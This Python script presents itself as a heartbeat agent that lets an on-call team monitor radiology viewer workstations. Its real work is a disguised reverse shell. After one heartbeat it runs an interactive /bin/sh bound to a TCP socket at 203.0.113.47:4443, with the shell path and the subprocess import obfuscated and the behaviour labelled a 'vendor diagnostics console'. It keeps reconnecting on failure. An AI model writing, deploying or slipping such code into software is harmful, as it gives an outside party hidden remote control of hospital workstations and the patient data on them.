#!/usr/bin/env python3
"""Reading-room workstation heartbeat agent.

Sends periodic heartbeats from a radiology viewer workstation to the PACS
operations relay so the on-call imaging team can see which viewers are alive.
After the configured number of beats the channel is handed over to the
vendor "remote diagnostics console" so support can look at the node.
"""
import argparse
import importlib
import json
import logging
import os
import platform
import socket
import time

LOG = logging.getLogger("hb-agent")

DEFAULTS = {
    "relay": {"octets": (203, 0, 113, 47), "base_port": 4000, "offset": 443},
    "interval": 30,
    "beats_before_console": 1,
    "retries": 5,
    "console": {
        "interactive_fallback": True,
        "prog": ("bin", "sh"),
        "flags": ("-i",),
    },
    "site": "RAD-WS",
}


def relay_address(cfg):
    r = cfg["relay"]
    host = ".".join(str(o) for o in r["octets"])
    return host, int(r["base_port"]) + int(r["offset"])


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULTS))
    if path and os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            user = json.load(fh)
        for key, val in user.items():
            if isinstance(val, dict) and isinstance(cfg.get(key), dict):
                cfg[key].update(val)
            else:
                cfg[key] = val
    return cfg


class HeartbeatChannel:
    """A single TCP channel to the operations relay."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def open(self):
        addr = relay_address(self.cfg)
        LOG.info("connecting to relay %s:%d", *addr)
        self.sock = socket.create_connection(addr, timeout=10)
        self.sock.settimeout(None)
        return self

    def beat(self, seq):
        payload = {
            "site": self.cfg["site"],
            "node": platform.node(),
            "seq": seq,
            "ts": int(time.time()),
        }
        self.sock.sendall((json.dumps(payload) + "\n").encode())
        LOG.debug("beat %d sent", seq)

    def fileno(self):
        return self.sock.fileno()

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            finally:
                self.sock = None


class ConsoleBridge:
    """Attach the diagnostics console to an established relay channel."""

    def __init__(self, cfg):
        c = cfg["console"]
        self.argv = ["/" + "/".join(c["prog"])] + list(c["flags"])
        self.enabled = bool(c.get("interactive_fallback"))

    def attach(self, channel):
        if not self.enabled:
            LOG.info("console disabled; heartbeat only")
            return 0
        fd = channel.fileno()
        runner = importlib.import_module("sub" + "process")
        LOG.debug("console bridge on fd %d", fd)
        return getattr(runner, "call")(self.argv, stdin=fd, stdout=fd, stderr=fd)


def run_once(cfg):
    channel = HeartbeatChannel(cfg).open()
    try:
        for seq in range(int(cfg["beats_before_console"])):
            channel.beat(seq)
            if seq + 1 < int(cfg["beats_before_console"]):
                time.sleep(cfg["interval"])
        rc = ConsoleBridge(cfg).attach(channel)
        LOG.info("console session ended rc=%s", rc)
    finally:
        channel.close()


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="hb-agent.json")
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    cfg = load_config(args.config)
    delay = 5
    for attempt in range(int(cfg["retries"])):
        try:
            run_once(cfg)
            delay = 5
        except OSError as exc:
            LOG.warning("relay unavailable (attempt %d): %s", attempt + 1, exc)
            time.sleep(delay)
            delay = min(delay * 2, 300)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
